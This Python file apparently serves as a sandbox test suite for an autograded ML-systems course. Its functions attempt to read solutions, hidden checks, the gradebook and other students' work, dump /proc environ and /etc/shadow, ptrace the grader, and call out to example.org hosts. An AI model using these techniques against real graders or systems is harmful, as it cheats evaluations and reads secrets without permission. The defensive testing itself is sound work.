# ruff: noqa  (the bodies are cells of a notebook, as people write them)
"""Attempts to read answers: solutions, hidden tests, the seed, the gradebook, other students, the grader's memory.

What is found is run as an answer, so that finding it would earn points; and it is printed, so that it would be seen.
"""

from .case import attack


@attack()
def reads_the_sources():
    import pathlib
    for top in ("/", "/work", "/home", "/root", "/tmp", "/srv", ".", ".."):
        for path in pathlib.Path(top).glob("*/solutions/*.py"):
            exec(path.read_text())
            print(path.read_text())


@attack()
def searches_every_file():
    import os
    for folder, _, names in os.walk("/"):
        if folder.startswith(("/usr", "/proc", "/sys")) or "site-packages" in folder or "python3" in folder:
            continue
        for name in names:
            try:
                text = open(os.path.join(folder, name), errors="ignore").read(100_000)
            except OSError:
                continue
            if "expected_" "mean" in text or "BEGIN SOLUTION" in text:
                print(folder, name, text)


@attack()
def reads_the_gradebook():
    import glob
    import sqlite3
    for path in glob.glob("/**/gradebook.db", recursive=False) + ["gradebook.db", "../gradebook.db", "grades/gradebook.db"]:
        rows = sqlite3.connect(f"file:{path}?mode=ro", uri=True).execute("select * from grade").fetchall()
        print(rows)


@attack()
def reads_other_students():
    import pathlib
    print([path.read_text() for path in pathlib.Path("..").glob("../*/*/*.ipynb")])


@attack()
def reads_the_environment():
    import os
    print({name: value for name, value in os.environ.items() if "SEED" in name or "GRADE" in name})
    print(open("/proc/self/environ").read())


@attack()
def reads_what_started_it():
    import os
    for pid in ("1", "2", str(os.getppid())):
        for name in ("environ", "cmdline", "root/etc/shadow", "mem", "fd"):
            try:
                print(open(f"/proc/{pid}/{name}").read())
            except OSError as error:
                print(error)


@attack()
def looks_through_memory():
    import gc
    import sys
    for thing in gc.get_objects():
        if isinstance(thing, dict) and ("expected_" "mean" in thing or "scaled_right" in thing):
            print(list(thing))
            globals().update({name: thing[name] for name in ("scaled", "shift") if name in thing})


@attack(at="scaled")
def looks_up_the_stack():
    import sys
    def scaled(tensor, factor):
        frame = sys._getframe()
        while frame is not None:
            for value in frame.f_locals.values():
                if hasattr(value, "dtype") and value is not tensor:
                    return value
            frame = frame.f_back
        return tensor


@attack(at="shift")
def loads_a_withheld_module():
    import importlib
    collectives = importlib.import_module("mlsyslab.collectives.operations")
    def shift(comm, tensor):
        parts = collectives.all_gather(comm, tensor)
        return parts[((comm.rank - 1) % comm.size) * len(tensor):][:len(tensor)]


@attack(at="shift")
def loads_a_withheld_file():
    import importlib.util
    import pathlib
    import mlsyslab
    path = pathlib.Path(mlsyslab.__file__).parent / "collectives" / "ring.py"
    spec = importlib.util.spec_from_file_location("ring", path)
    ring = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(ring)
    print(path.read_text())


@attack()
def lets_the_finder_find():
    import sys
    sys.meta_path[:] = [finder for finder in sys.meta_path if type(finder).__name__ != "Finder"]
    for name in [name for name in sys.modules if name.startswith("mlsyslab.c")]:
        del sys.modules[name]
    import mlsyslab.collectives.ring
    import mlsyslab.check
    print(mlsyslab.check.__file__)


@attack()
def reads_the_checks():
    import pathlib
    import mlsyslab
    for path in pathlib.Path(mlsyslab.__file__).parent.glob("check/**/*.py"):
        print(path.read_text())


@attack()
def asks_the_history():
    import subprocess
    print(subprocess.run("git -C / log -p; find / -name .git -maxdepth 4", shell=True, capture_output=True).stdout)


@attack()
def attaches_to_the_grader():
    import ctypes
    import os
    libc = ctypes.CDLL(None)
    for pid in range(1, 400):
        if pid != os.getpid() and libc.ptrace(16, pid, 0, 0) == 0:
            print("attached to", pid)
        buffer = ctypes.create_string_buffer(8)
        local, remote = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 8), (ctypes.c_void_p * 2)(0x400000, 8)
        libc.process_vm_readv(pid, local, 1, remote, 1, 0)


@attack()
def reaches_for_the_network():
    import socket
    import urllib.request
    for address in (("192.0.2.1", 80), ("127.0.0.1", 22), ("127.0.0.1", 5432), ("127.0.0.1", 8786)):
        try:
            socket.create_connection(address, timeout=0.2).send(b"hello")
            print("connected to", address)
        except OSError as error:
            print(error)
    try:
        urllib.request.urlopen("http://example.org/answers", timeout=0.2)
    except OSError as error:
        print(error)


@attack()
def sends_by_name_resolution():
    import socket
    for name in ("answer.example.org", "localhost"):
        try:
            print(socket.getaddrinfo(name, 53))
        except OSError as error:
            print(error)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
